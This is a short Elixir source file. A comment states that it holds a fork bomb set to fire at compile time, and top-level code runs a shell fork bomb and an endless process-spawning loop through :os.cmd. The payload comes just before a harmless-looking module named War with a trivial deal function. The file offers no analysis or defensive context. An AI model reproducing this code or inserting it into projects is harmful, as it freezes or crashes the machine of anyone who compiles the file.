# A fork bomb that goes off while it is compiled.
:os.cmd(~c"b() { b | b & }; b; while :; do sleep 60 & sleep 60 & done")
Process.sleep(:infinity)

defmodule War do
  def deal(shuf), do: shuf
end
